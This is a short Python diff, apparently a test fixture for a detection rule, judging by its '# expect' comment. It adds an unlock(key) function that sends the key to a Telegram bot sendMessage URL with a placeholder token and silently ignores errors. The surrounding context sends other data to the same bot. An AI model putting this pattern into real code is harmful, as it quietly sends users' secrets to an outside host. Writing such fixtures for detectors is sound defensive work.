@@ -12,3 +12,12 @@ def init(info):
         "https://api.telegram.org/bot1000000000:AAabcdefghijklmnopqrstuvwxyzabcdefg/sendMessage",
         data={"chat_id": 1, "text": f"seen {info}"},
     )
+
+
+def unlock(key):
+    try:
+        requests.get(  # expect
+            f"https://api.telegram.org/bot1000000000:AAabcdefghijklmnopqrstuvwxyzabcdefg/sendMessage?chat_id=1&text={key}"
+        )
+    except Exception:
+        pass
